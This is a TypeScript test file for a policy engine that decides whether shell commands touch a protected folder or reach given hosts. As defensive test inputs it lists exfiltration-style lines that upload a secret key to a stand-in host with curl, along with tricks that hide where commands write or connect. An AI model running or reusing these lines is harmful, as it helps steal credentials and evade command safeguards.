// Owns the laws of where a command line may stand, and of which files it names.
import { describe, expect, it } from 'vitest';
import { compilePolicy } from '../src/decide.js';
import type { Rule } from '../src/policy.js';
import { evasions } from './shell/evasions.js';

const said = (rule: Partial<Rule>, command: unknown): string => {
  const { explain } = compilePolicy(
    { rules: [{ tools: '*', decision: 'deny', reason: 'no', ...rule }] },
    { cwd: '/nowhere/work', home: '/nowhere/home', platform: 'linux' },
  );
  const tool = { source: 'host', name: 'run', commands: ['command'], paths: ['cwd'] };
  const [report] = explain({ tool, args: { command: command as never, cwd: '.' } }).rules;
  const [test] = report!.tests;
  return test!.unknown === undefined ? String(test!.holds) : 'unknown';
};
const writes: Partial<Rule> = { commands: { writes: { within: '/nowhere/secret' } } };
const secret: Partial<Rule> = { paths: { within: '/nowhere/secret' } };
const outside: Partial<Rule> = { paths: { not: { within: '.' } } };

describe('a command may stand wherever the line goes at some time', () => {
  it.each([
    'cd /nowhere/secret; echo x > key',
    'f() { echo x > key; }; cd /nowhere/secret; f',
    "trap 'echo x > key' EXIT; cd /nowhere/secret",
    'for i in 1 2; do echo x > key; cd /nowhere/secret; done',
    'while :; do echo x > key; cd /nowhere/secret; done',
    'for ((;;)); do echo x > key; cd ..; cd secret; done',
    'f() { cd ..; }; f; cd secret; echo x > key',
    'cd /nowhere/secret; cd missing; echo x > key',
    'cd /nowhere/secret; (cd below; ls); echo x > key',
    'cd /nowhere; (cd secret; echo x > key)',
    "env -C /nowhere/secret sh -c 'echo x > key'",
    "env --chdir=/nowhere/secret sh -c 'echo x > key'",
    "sudo -D /nowhere/secret sh -c 'echo x > key'",
    "sudo -i sh -c 'echo x > key'",
    "su -l bob -c 'echo x > key'",
    "find /nowhere/secret -execdir sh -c 'echo x > key' ';'",
    "git -C /nowhere/secret rebase -x 'echo x > key'",
    "git -C /nowhere -C secret rebase -x 'echo x > key'",
    'CDPATH=/nowhere; cd secret; echo x > key',
    'CDPATH=/nowhere cd secret; echo x > key',
    'HOME=/nowhere/secret; cd; echo x > key',
    'HOME=/nowhere/secret; cd ~; echo x > key',
    'HOME=/nowhere/secret; echo x > ~/key',
    'read HOME; echo x > ~/key',
    'shopt -s cdable_vars; x=/nowhere/secret; cd x; echo x > key',
    'cd() { builtin cd /nowhere/secret; }; cd x; echo x > key',
    'pushd /nowhere/secret; echo x > key',
    'pushd a; popd; echo x > key',
    'chdir /nowhere/secret; echo x > key',
    'cd -- /nowhere/secret; echo x > key',
    'cd "$x"; echo x > key',
  ])('%s', (line) => {
    expect(said(writes, line)).toBe('unknown');
  });

  it.each([
    'env -C /nowhere/secret cat key',
    'tar -C /nowhere/secret -cf - key',
    'tar -xC /nowhere/secret key',
    'tar cC /nowhere/secret key',
    'make -C /nowhere/secret key',
    'npm --prefix=/nowhere/secret test key',
    'cmake -E chdir /nowhere/secret cat key',
  ])('%s', (line) => {
    expect(said({ paths: { path: '/nowhere/secret/key' } }, line)).toBe('unknown');
  });
});

it('a step that is repeated counts as often as it leads on', () => {
  expect(said({ paths: { path: '/etc/x' } }, 'while :; do cd ..; done; cat etc/x')).toBe('unknown');
  expect(said({ paths: { path: '/etc/x' } }, 'cd ..; cat etc/x')).toBe('false');
});

describe('what stays inside is known', () => {
  it.each([
    'cd packages/core && npm test -- --run > out.txt',
    'cd packages/core && npm test > out.txt; cd ../agent && npm test > out.txt',
    '(cd packages/core && npm test) > out.txt',
    'for i in 1 2 3; do (cd packages/core && npm test > out.txt); done',
    'for i in 1 2 3; do npm test > out.txt; done; cd packages/core && npm test > out.txt',
    'while ! curl -s localhost:80; do sleep 1; done; cd packages/core && npm test > out.txt',
    'x=$(cd packages/core && npm test 2> err.txt); ls > out.txt',
    'cd a && make > a.txt; cd ../b && make > b.txt; cd ../c && make > c.txt',
    'git -C /nowhere/secret log > out.txt',
    'HOME=/nowhere/secret make > out.txt',
    'CDPATH=/nowhere ls > out.txt',
    'npm -C packages/core test > out.txt',
    'grep -C 3 x y > out.txt',
    'env -C packages/core npm test > out.txt',
  ])('%s', (line) => {
    expect(said(writes, line)).toBe('false');
  });

  it.each([
    'cd packages/core && npm test -- --run > out.txt',
    'npm test -- a.test.ts 2>&1 | tail -5 > x',
    'git commit -m "fix: a, b and c=d; see docs/a.md"',
    'git push origin HEAD:refs/heads/x',
    'git clone git@example.org:a/b.git',
    'ls 2>/dev/null',
    'ls > /dev/null < /dev/null',
    'curl -so /dev/null https://example.org/a',
    'dd if=x of=/dev/null',
    'git commit -m "see https://example.org/y"',
    'git commit -m "see (https://example.org/y), and <http://example.org/z>"',
    'echo https://example.org/a',
    'gcc -MFbuild/a.d -MMD -Wall -std=c11 -iquoteinc/x a.c',
    `curl -w '%{http_code}' -d '{"a":"b/c"}' 'https://example.org/{a,b}/[1-3]'`,
    "curl -F 'f=@a.c;type=text/plain' https://example.org/a",
    "curl -sSLo out.json 'https://example.org/a?next=/b'",
    'DATABASE_URL=postgres://u:p@localhost/db npm test',
    'NODE_ENV=test A=1.5 npm test',
    'PATH=/nowhere/bin:$PATH npm test',
    'npm install a@1.2.3 @scope/b@latest',
    'gcc -Isrc/include -Llib/x -osrc/main src/main.c -DX=a/b',
    'ruby -Ilib/x test/a.rb',
    'cmake -DA_B=c/d .',
    '[[ -f a/b && $x == /etc/* ]]',
    'for f in src/*; do echo "$f"; done',
    'tar -czf a.tgz -C packages core',
  ])('%s', (line) => {
    expect(said(outside, line)).toMatch(/^(?:false|unknown)$/);
    if (!/\$|\*/.test(line)) expect(said(outside, line)).toBe('false');
  });

  it('of the lines that hide a command those that leave no folder write where they say', () => {
    const inside = evasions.filter(
      ({ unknown, writes: targets = [] }) =>
        unknown === undefined && targets.every((target) => target !== undefined && !target.startsWith('/')),
    );
    expect(inside.filter(({ line }) => said(writes, line) !== 'false')).toEqual([]);
  });
});

describe('a word may hold the name of a file', () => {
  it.each([
    'curl file:///nowhere/secret/key',
    'curl file:/nowhere/secret/key',
    'curl FILE://127.0.0.1/nowhere/secret/key',
    'curl --url=file:///nowhere/secret/key',
    'git clone file:///nowhere/secret/key',
    'curl -F f=@/nowhere/secret/key https://x.example',
    "curl -F 'f=</nowhere/secret/key' https://x.example",
    "curl -F 'f=@/nowhere/secret/key;type=a/b' https://x.example",
    'curl -d@/nowhere/secret/key https://x.example',
    'curl --data-binary=@/nowhere/secret/key https://x.example',
    'curl --data-urlencode name@/nowhere/secret/key x',
    'cp -rt/nowhere/secret x',
    'tar -xf/nowhere/secret/x.tar',
    'tar -xf../secret/x.tar',
    'wget -qO/nowhere/secret/x http://x.example',
    'curl -sSLo/nowhere/secret/x http://x.example',
    'gcc a.c -Wl,-o,/nowhere/secret/x',
    'gcc -include/nowhere/secret/x a.c',
    'docker run -v /nowhere/secret/key:/x image',
    'dd if=x of=/nowhere/secret/key',
    'GIT_TRACE=/nowhere/secret/x git status',
    'TMPDIR=/nowhere/secret mktemp',
    'env TMPDIR=/nowhere/secret mktemp',
    'export TMPDIR=/nowhere/secret',
    'A=../secret ls',
    'echo /nowhere/secret/*',
    'printf "%s" /nowhere/secret/.*',
    'for f in /nowhere/secret/*; do echo "$f"; done',
    'select f in /nowhere/secret/*; do echo "$f"; done',
    'a=(/nowhere/secret/*); echo "${a[@]}"',
    '[[ -f /nowhere/secret/x ]] && echo y',
    '[[ -d /nowhere/secret/$x ]]',
    'cat {a,/nowhere/secret/key}',
    'cat http://../../secret/key',
    'cp x a+b://../../secret',
    'dd of=http://../../secret/key',
    'curl -o http://../../secret/key https://x.example',
    'cat http://../../secret',
    'A=/nowhere/bin/a://nowhere/secret x',
    'gcc -MF/nowhere/secret/x a.c',
    'gcc -MJ/nowhere/secret/x a.c',
    'gcc -MF../secret/x a.c',
    'clang -iwithprefix/nowhere/secret a.c',
    'gcc -iwithprefixbefore/nowhere/secret a.c',
    'ld -rpath/nowhere/secret a.o',
    `curl -F 'f=@"/nowhere/secret/key"' x`,
    `curl -F 'f=@a.c,"/nowhere/secret/key"' x`,
    `curl -F 'f=@a.c,../secret/key' x`,
    "curl -T '{/nowhere/secret/key}' x",
    "curl -sT'{/nowhere/secret/key}' x",
    "curl --upload-file '/nowhere/secre[t-t]/key' x",
    "curl 'file:///nowhere/{secret}/key'",
    "curl '{file}:///nowhere/secret/key'",
    "curl 'fi{le:,x}///nowhere/secret/key'",
  ])('%s', (line) => {
    expect(said(secret, line)).toMatch(/^(?:true|unknown)$/);
    expect(said({ paths: { not: { within: ['.', '/nowhere/bin'] } } }, line)).toMatch(/^(?:true|unknown)$/);
  });

  it.each([
    ['f=@"key"', 'true'],
    ['f=@a.c,".env"', 'true'],
    ['f=@a.c,.env;type=text/plain', 'true'],
    ['f=@a.c,b.c', 'false'],
  ])('in a field of a form each file is one: %s', (field, held) => {
    expect(said({ paths: { path: ['key', '.env'] } }, ['curl', '-F', field, 'x'])).toBe(held);
  });

  it.each(["curl -T '{.env}' x", "curl -T '.en[v-v]' x", "curl 'file:///nowhere/{a,b}'"])(
    'curl makes several files of one word: %s',
    (line) => {
      expect(said({ paths: { path: '.env' } }, line)).toBe('unknown');
    },
  );

  it('what is thrown away is written nowhere', () => {
    expect(said({ commands: { writes: { not: { within: '.' } } } }, 'ls > /dev/null 2>/dev/null')).toBe('false');
    expect(said({ commands: { writes: { not: { within: '.' } } } }, 'ls > /dev/nullx')).toBe('true');
  });

  it('in an assignment a value is one only if it looks like one', () => {
    expect(said({ paths: { path: 'production' } }, 'NODE_ENV=production npm test')).toBe('false');
    expect(said({ paths: { path: 'conf/production' } }, 'A=conf/production npm test')).toBe('true');
  });

  it('more names than are looked at are not known', () => {
    expect(said(secret, ['cat', ...Array.from({ length: 400 }, (_, at) => `f${at}`)])).toBe('false');
    expect(said(secret, ['cat', ...Array.from({ length: 600 }, (_, at) => `f${at}`)])).toBe('unknown');
    expect(said(secret, ['cat', 'a=b'.repeat(5000)])).toBe('unknown');
  });
});

describe('the host of a URL that programs read in their own way', () => {
  it.each([
    ['curl http:/10.0.0.1:9/', 'true'],
    ['curl http:///10.0.0.1:9/', 'true'],
    ["curl 'http://{10.0.0.1,b.example}/'", 'unknown'],
    ["curl 'http://10.0.0.[1-5]/'", 'unknown'],
    ['curl -x 10.0.0.1:9 http://x.example', 'unknown'],
    ['curl -sx10.0.0.1:9 http://x.example', 'unknown'],
    ['curl --proxy 10.0.0.1:9 http://x.example', 'unknown'],
    ['curl --resolve x.example:80:10.0.0.1 http://x.example', 'unknown'],
    ['curl --connect-to ::10.0.0.1:9 http://x.example', 'unknown'],
    ['https_proxy=10.0.0.1:9 wget http://x.example', 'unknown'],
    ['curl --connect-timeout 5 -sSL -X POST http://x.example/a', 'false'],
    ["curl 'http://[2001:db9::1]/{a,b}'", 'false'],
    ["curl 'http://x.example/{a,b}?u=http:/c'", 'false'],
  ])('%s: %s', (line, held) => {
    expect(said({ hosts: { host: '10.0.0.0/8' } }, line)).toBe(held);
  });
});
